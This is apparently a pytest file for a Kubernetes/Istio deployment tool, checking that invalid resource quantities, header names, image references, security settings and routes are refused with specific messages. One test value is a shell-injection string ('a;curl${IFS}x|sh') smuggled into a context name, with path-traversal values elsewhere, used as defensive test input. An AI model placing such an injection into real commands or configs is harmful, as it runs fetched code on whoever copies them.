"""Values of a right form that Kubernetes, Istio or AWS would refuse or never mean: refused beside each other."""

from __future__ import annotations

import pytest
import yaml
from hypothesis import given
from hypothesis import strategies as st

from rollout.problems import ConfigError
from rollout.spec.files import read_catalog
from rollout.spec.quantities import amount
from rollout.spec.routes import Route, each_is_reached
from rollout.spec.settings import read_settings
from rollout.spec.workload import InitContainer
from tests.conftest import ROOT
from tests.unit.test_bad_input import (
    CATALOG,
    DEV,
    GROUP,
    SERVICE,
    assert_catalog_refused,
    assert_config_refused,
    edit,
    texts,
)

CHAT = "config/eco2:services/chat-api"


def resources(cpu=("100m", "500m"), memory=("128Mi", "256Mi")):
    return {part: {"cpu": cpu[at], "memory": memory[at]} for at, part in enumerate(("requests", "limits"))}


BAD_CONFIG = [
    (
        {CHAT: {"resources": resources(memory=("2Gi", "1Gi"))}},
        "eco2:services.chat-api.resources",
        "is above limits.memory 1Gi",
    ),
    (
        {CHAT: {"resources": resources(cpu=("2", "1999m"))}},
        "eco2:services.chat-api.resources",
        "is above limits.cpu",
    ),
    (
        {CHAT: {"resources": resources(memory=("128m", "256m"))}},
        "eco2:services.chat-api.resources.requests.memory",
        "write mebibytes or gibibytes (128Mi, 1Gi)",
    ),
    (
        {CHAT: {"resources": resources(memory=("1", "1Gi"))}},
        "eco2:services.chat-api.resources.requests.memory",
        "4Mi",
    ),
    (
        {CHAT: {"resources": resources(cpu=("100m", "512Mi"))}},
        "eco2:services.chat-api.resources.limits.cpu",
        "no share",
    ),
    (
        {CHAT: {"resources": resources(cpu=("1u", "1"))}},
        "eco2:services.chat-api.resources.requests.cpu",
        "thousandths",
    ),
    (
        {CHAT: {"resources": resources(cpu=("1e999999999", "1"))}},
        "eco2:services.chat-api.resources.requests.cpu",
        "no quantity that Kubernetes can hold",
    ),
    (
        {CHAT: {"resources": resources(cpu=("0", "0"))}},
        "eco2:services.chat-api.resources",
        "limits.cpu 0 leaves nothing",
    ),
    ({CHAT: {"env": {"A": "x\0y"}}}, "eco2:services.chat-api.env.A", "U+0000"),
    ({CHAT: {"env": {"A": "\x1b[2J"}}}, "eco2:services.chat-api.env.A", "U+001B"),
    ({CHAT: {"env": {"A": "\ud800"}}}, "eco2:services.chat-api.env.A", "U+D800"),
    ({"config/eco2:overrule": {"auth-api": "so\x07"}}, "eco2:overrule.auth-api", "U+0007"),
    ({"config/kubernetes:context": "a\x1bb"}, "kubernetes:context", "without blanks"),
    # It stands in commands that a person copies.
    ({"config/kubernetes:context": "a;curl${IFS}x|sh"}, "kubernetes:context", "letters, digits"),
    ({"config/kubernetes:context": "--user=x"}, "kubernetes:context", "letters, digits"),
    (
        {f"{GROUP}/instanceTypes": ["t3.medium", "t4g.medium"]},
        "eco2:nodeGroups.auth.instanceTypes",
        "t4g.medium: no",
    ),
    ({f"{GROUP}/instanceTypes": ["t3.medium", "t3.medium"]}, "eco2:nodeGroups.auth.instanceTypes", "twice"),
    (
        {"config/eco2:rollouts/scan-worker": {"phase": 1, "canary": {"queues": ["scan.rule"]}}},
        "eco2:rollouts.scan-worker.canary.queues",
        "stable reads it",
    ),
    ({"config/eco2:host": f"{'a' * 64}.growbin.app"}, "eco2:host", "a host name"),
    ({"config/eco2:cluster/name": "a" * 59}, "eco2:cluster.name", "IAM takes 64 characters"),
    (
        {"config/eco2:services/my-api": {"resources": resources(cpu=("0", "1"))}},
        "eco2:services.my-api.resources",
        "requests.cpu is 0, and cpuPercent is a part of it",
    ),
]
INIT = {"name": "init", "image": "busybox:1", "command": ["true"]}
ROUTE = {"name": "x", "prefix": "/api/v1/x"}
BAD_CATALOG = [
    ({"canaryHeader/name": "host"}, "canaryHeader.name", "belongs to the proxies"),
    ({"canaryHeader/name": ":authority"}, "canaryHeader.name", "form"),
    ({"canaryHeader/name": "x-canary\nx"}, "canaryHeader.name", "form"),
    *(
        ({"canaryHeader/name": name}, "canaryHeader.name", "belongs to the proxies")
        for name in (
            "content-length",
            "transfer-encoding",
            "connection",
            "x-envoy-attempt-count",
            "te",
            "x-forwarded-for",
        )
    ),
    ({"canaryHeader/name": "baggage"}, "canaryHeader.name", "from service to service; choose another one"),
    *(
        (
            {"canaryHeader/value": value},
            "canaryHeader.value",
            "letters, digits, . _ - (baggage, which carries",
        )
        # Each of these comes out of some propagator in another form, or ends the member.
        for value in (
            "tr\nue",
            " true",
            "ja\u00e9",
            "a b",
            "a,b",
            "a;b",
            "a=b",
            "a%20b",
            "a+b",
            "a/b",
            "~a",
            '"a"',
            "",
        )
    ),
    ({f"{SERVICE}/args": ["a\0b"]}, f"{SERVICE}.args[0]", "U+0000"),
    ({f"{SERVICE}/ports": [{"name": "a-name-of-16-let", "port": 80}]}, f"{SERVICE}.ports[0].name", "15"),
    ({f"{SERVICE}/ports": [{"name": "80", "port": 80}]}, f"{SERVICE}.ports[0].name", "with a letter"),
    ({f"{SERVICE}/ports": [{"name": "http", "port": 15006}]}, f"{SERVICE}.ports[0].port", "Istio's sidecar"),
    ({f"{SERVICE}/probes/liveness/http/path": "/a b"}, f"{SERVICE}.probes.liveness.http.path", "no blank"),
    (
        {f"{SERVICE}/probes/liveness/periodSeconds": 2**31},
        f"{SERVICE}.probes.liveness.periodSeconds",
        "86400",
    ),
    (
        {f"{SERVICE}/securityContext": {"runAsNonRoot": True, "runAsUser": 0}},
        f"{SERVICE}.securityContext",
        "exclude",
    ),
    ({f"{SERVICE}/initContainers": [INIT, INIT]}, SERVICE, "another container"),
    (
        {f"{SERVICE}/initContainers": [{**INIT, "name": "auth-api"}]},
        f"{SERVICE}.initContainers",
        "another container",
    ),
    ({f"{SERVICE}/container": "istio-proxy"}, SERVICE, "Istio's sidecar"),
    (
        {f"{SERVICE}/initContainers": [{**INIT, "image": "a b"}]},
        f"{SERVICE}.initContainers[0].image",
        "without blanks",
    ),
    ({f"{SERVICE}/annotations": {"a b": "x"}}, f"{SERVICE}.annotations", "no annotation's name"),
    (
        {f"{SERVICE}/annotations": {"eco2.growbin.app/revision": "x"}},
        f"{SERVICE}.annotations",
        "by the program",
    ),
    (
        {f"{SERVICE}/annotations": {"sidecar.istio.io/proxyCPU": "2", "sidecar.istio.io/proxyCPULimit": "1"}},
        f"{SERVICE}.annotations",
        "is above",
    ),
    (
        {f"{SERVICE}/annotations": {"sidecar.istio.io/proxyCPU": "1" * 41 + "m"}},
        f"{SERVICE}.annotations",
        "can hold",
    ),
    (
        {f"{SERVICE}/env": {"A": {"secret": {"name": "x", "key": "a b"}}}},
        f"{SERVICE}.env.A.secret.key",
        "letters",
    ),
    ({f"{SERVICE}/routes": [{**ROUTE, "timeout": "0s"}]}, f"{SERVICE}.routes[0].timeout", "from 1ms on"),
    (
        {f"{SERVICE}/routes": [{**ROUTE, "timeout": "0.5ms"}]},
        f"{SERVICE}.routes[0].timeout",
        "whole number of",
    ),
    (
        {f"{SERVICE}/routes": [{**ROUTE, "timeout": "9999999999999h"}]},
        f"{SERVICE}.routes[0].timeout",
        "a year",
    ),
    ({f"{SERVICE}/routes": [{**ROUTE, "prefix": "/a?b"}]}, f"{SERVICE}.routes[0].prefix", "no query"),
    (
        {f"{SERVICE}/routes": [{**ROUTE, "requestHeaders": {"set": {"host": "x"}}}]},
        f"{SERVICE}.routes[0]",
        "proxies",
    ),
    (
        {f"{SERVICE}/routes": [{**ROUTE, "requestHeaders": {"add": {"a": "x\r\ny"}}}]},
        f"{SERVICE}.routes[0]",
        "one line",
    ),
    (
        {f"{SERVICE}/routes": [{**ROUTE, "requestHeaders": {"set": {"a": "x"}, "remove": ["a"]}}]},
        f"{SERVICE}.routes[0].requestHeaders",
        "several changes",
    ),
    *(
        (
            {f"{SERVICE}/routes": [{**ROUTE, "requestHeaders": {operation: {"baggage": "a=b"}}}]},
            f"{SERVICE}.routes[0].requestHeaders.{operation}",
            "baggage carries the canary's header from service to service",
        )
        for operation in ("set", "add")
    ),
    (
        {f"{SERVICE}/meshRoutes": [{**ROUTE, "requestHeaders": {"remove": ["baggage"]}}]},
        f"{SERVICE}.meshRoutes",
        "remove it in routes, where clients come in",
    ),
    (
        {"services/scan-worker/envFrom": [], "services/scan-worker/env": {}},
        "services.scan-worker",
        "no variable of env",
    ),
    *(
        ({f"{SERVICE}/namespace": name}, f"{SERVICE}.namespace", "belongs to the cluster")
        for name in ("default", "kube-system", "istio-system")
    ),
    ({f"{SERVICE}/annotations": {"sidecar.istio.io/inject": "off"}}, f"{SERVICE}.annotations", '"false"'),
    *(
        ({f"{SERVICE}/annotations": {"proxy.istio.io/config": text}}, f"{SERVICE}.annotations", "ProxyConfig")
        for text in ("", "- a", "{", "a: b: c", "[" * 100_000)
    ),
    (
        {f"{SERVICE}/trafficPolicy/connectionPool/http/http2MaxRequests": 2**31},
        f"{SERVICE}.trafficPolicy.connectionPool.http.http2MaxRequests",
        "2147483647",
    ),
    ({f"{SERVICE}/domain": "a" * 57}, f"{SERVICE}.domain", "at most 56"),
    *(
        ({f"{SERVICE}/stickiness": value}, f"{SERVICE}.stickiness{key}", reason)
        for value, key, reason in (
            ({}, "", "either cookie or header"),
            ({"cookie": "a", "header": "b"}, "", "either cookie or header"),
            ({"cookie": "a b"}, ".cookie", "a cookie's name"),
            ({"cookie": "a", "ids": "hex"}, "", "ids says nothing of a cookie"),
            ({"header": "x-user", "maxAge": "1h"}, "", "maxAge says nothing of a header"),
            ({"header": "x-user", "sameSite": "Lax"}, "", "sameSite says nothing of a header"),
            ({"header": "cookie"}, ".header", "name one of them by stickiness.cookie"),
            ({"header": "host"}, ".header", "belongs to the proxies"),
            ({"header": "X-User"}, ".header", "in lower case"),
            ({"header": "x-user", "ids": "octal"}, ".ids", "hex"),
            ({"cookie": "a", "sameSite": "lax"}, ".sameSite", "Lax"),
            ({"cookie": "a", "maxAge": "1500ms"}, "", "whole number of seconds"),
        )
    ),
    (
        {f"services/{name}/stickiness": {"cookie": "same"} for name in ("auth-api", "scan-api")},
        "services.scan-api.stickiness.cookie",
        "auth-api uses the cookie same",
    ),
    (
        {"services/scan-worker/stickiness": {"cookie": "a"}},
        "services.scan-worker",
        "no route of a service of kind worker sends users",
    ),
    ({"services/ext-authz/stickiness": {"cookie": "a"}}, "services.ext-authz", "no route of a service"),
    (
        {f"{SERVICE}/securityContext": {"capabilities": {"add": ["CAP_SYS_ADMIN"]}}},
        f"{SERVICE}.securityContext.capabilities.add[0]",
        "without CAP_: SYS_ADMIN",
    ),
    (
        {f"{SERVICE}/securityContext": {"capabilities": {"drop": ["all"]}}},
        f"{SERVICE}.securityContext.capabilities.drop[0]",
        "a capability's name",
    ),
    *(
        (
            {
                f"{SERVICE}/securityContext": {
                    "seccompProfile": {"type": "Localhost", "localhostProfile": path}
                }
            },
            f"{SERVICE}.securityContext.seccompProfile.localhostProfile",
            "below the kubelet's folder",
        )
        for path in ("/etc/audit.json", "../audit.json", "a/../b", "")
    ),
    (
        {f"{SERVICE}/autoscaler/hpa/podsMetrics": [{"name": "a/b", "average": 1}]},
        f"{SERVICE}.autoscaler.hpa.podsMetrics[0].name",
        "without blanks, / and %",
    ),
    *(
        (
            {f"{SERVICE}/initContainers": [{**INIT, "image": image}]},
            f"{SERVICE}.initContainers[0].image",
            "name, tag, digest",
        )
        for image in ("busybox:", "busybox@sha256:12", "busybox:1:2", "busybox@@", "a//b", "../busybox")
    ),
    ({"registry/repository": "docker.io/../x"}, "registry.repository", "an image repository"),
    ({"registry/repository": f"docker.io/{'a' * 250}"}, "registry.repository", "at most 255"),
    (
        {f"{SERVICE}/routes": [ROUTE, {"name": "y", "exact": "/api/v1/x/y"}]},
        f"{SERVICE}.routes",
        "y (/api/v1/x/y) is never reached: x (/api/v1/x) takes its requests",
    ),
    (
        {f"{SERVICE}/meshRoutes": [{**ROUTE, "methods": ["GET", "POST"]}, {**ROUTE, "methods": ["POST"]}]},
        f"{SERVICE}.meshRoutes",
        "is never reached",
    ),
]


@pytest.mark.parametrize(("changes", "key", "reason"), BAD_CONFIG, ids=lambda value: ascii(value)[:60])
def test_a_config_that_others_would_refuse_is_refused_by_its_key(changes, key, reason):
    assert_config_refused(changes, key, reason)


@pytest.mark.parametrize(("changes", "key", "reason"), BAD_CATALOG, ids=lambda value: ascii(value)[:60])
def test_a_catalog_that_others_would_refuse_is_refused_by_its_key(tmp_path, changes, key, reason):
    assert_catalog_refused(tmp_path, changes, key, reason)


IMAGES = [
    "busybox",
    "busybox:1.36",
    f"docker.io/library/busybox:1@sha256:{'0' * 64}",
    "localhost:5000/a/b_c:x",
]


@pytest.mark.parametrize("image", IMAGES)
def test_an_image_as_others_write_it_is_taken(image):
    assert InitContainer(name="a", image=image, command=())


@pytest.mark.parametrize(
    "context",
    [
        "arn:aws:eks:ap-northeast-2:123456789012:cluster/eco2-prod",
        "default/api-eco2-test:6443/kube:admin",
        "me@eco2.test",
        "gke_project_zone_name",
    ],
)
def test_a_context_as_clouds_write_it_is_taken(context):
    assert read_settings(DEV, texts({"config/kubernetes:context": context}), CATALOG)


def test_a_route_behind_one_that_takes_fewer_methods_is_reached():
    one = {**ROUTE, "methods": ("GET",)}
    assert each_is_reached(tuple(Route(**route) for route in (one, ROUTE)))


@pytest.mark.parametrize("name", ["services/3d-api", "services/" + "a" * 48])
def test_a_name_that_no_service_can_have_is_refused(tmp_path, name):
    catalog = yaml.safe_load((ROOT / "services.yaml").read_text())
    edit(catalog, {name: catalog["services"]["chat-api"]})
    path = tmp_path / "services.yaml"
    path.write_text(yaml.safe_dump(catalog))
    with pytest.raises(ConfigError, match=r"begins with a letter|at most 47"):
        read_catalog(path)


@pytest.mark.parametrize(
    "instance_type",
    [
        "t4g.small",
        "m6g.large",
        "m7gd.xlarge",
        "c7gn.large",
        "a1.large",
        "im4gn.large",
        "is4gen.large",
        "x2gd.large",
        "g5g.xlarge",
        "hpc7g.4xlarge",
        "r8gb.large",
        "p6e-gb200.36xlarge",
        "mac2.metal",
    ],
)
def test_a_machine_of_another_architecture_is_refused(instance_type):
    with pytest.raises(ConfigError, match="no machine of x86-64"):
        read_settings(DEV, texts({f"{GROUP}/instanceTypes": [instance_type]}), CATALOG)


@pytest.mark.parametrize(
    "instance_type",
    [
        "t3.medium",
        "t3a.large",
        "m6i.large",
        "m7a.large",
        "m7i-flex.large",
        "c6in.large",
        "g4dn.xlarge",
        "g6e.xlarge",
        "gr6.4xlarge",
        "p4de.24xlarge",
        "p6-b200.48xlarge",
        "u7in-16tb.224xlarge",
        "trn1.2xlarge",
        "inf2.xlarge",
        "z1d.large",
        "dl1.24xlarge",
    ],
)
def test_a_machine_of_the_images_architecture_is_taken(instance_type):
    assert read_settings(DEV, texts({f"{GROUP}/instanceTypes": [instance_type]}), CATALOG)


@given(st.from_regex(r"[0-9]{1,30}(\.[0-9]{0,30})?([eE][+-]?[0-9]{1,20})?[a-zA-Z]{0,2}", fullmatch=True))
def test_any_quantity_is_a_number_or_a_word_about_it(text):
    try:
        assert amount(text) >= 0
    except ValueError as error:
        assert str(error)  # noqa: PT017  # nothing else may come out


@pytest.mark.parametrize(
    "command", [("set-image", "auth-api", "auth-api-1", "--phase", "1"), ("advance", "auth-api")]
)
def test_no_command_writes_beside_a_value_that_would_be_refused(desk, command):
    text = desk.file.read_text().replace(
        "  eco2:services:\n",
        "  eco2:services:\n    chat-api: {resources: {requests: {cpu: 1m, memory: 2Gi}, limits: {cpu: 1m, memory: 1Gi}}}\n",
    )
    desk.file.write_text(text)
    done = desk.run(*command, "--no-up", "--yes")
    assert done.exit_code == 1
    assert "eco2:services.chat-api.resources: requests.memory 2Gi is above limits.memory 1Gi" in done.output
    assert desk.file.read_text() == text
